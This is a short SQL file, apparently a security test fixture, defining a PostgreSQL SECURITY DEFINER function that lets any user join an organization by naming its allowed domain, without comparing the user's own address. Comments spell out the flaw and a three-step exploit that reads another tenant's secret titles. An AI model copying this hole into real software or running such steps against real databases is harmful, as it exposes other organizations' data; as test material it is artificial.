-- A user joins any organization that allows its domain, because his own address is never compared with that
-- domain.
-- about: join_organization, accounts_membership, accounts_organization
-- as: hf_handbook_app
-- exploit: SET app.user_id = '7';
-- exploit: SELECT join_organization('beta.test');
-- exploit: SELECT title FROM kb_space;
-- shows: Road-secret ops
-- People with an address of the organization come in without an invitation.
CREATE FUNCTION join_organization(p_domain text) RETURNS void LANGUAGE sql SECURITY DEFINER
SET search_path = public, pg_temp AS $$
  INSERT INTO accounts_membership (organization_id, user_id, role)
  SELECT o.id, current_user_id(), 'reader' FROM accounts_organization o
  WHERE o.allowed_domain = p_domain
  ON CONFLICT DO NOTHING
$$;
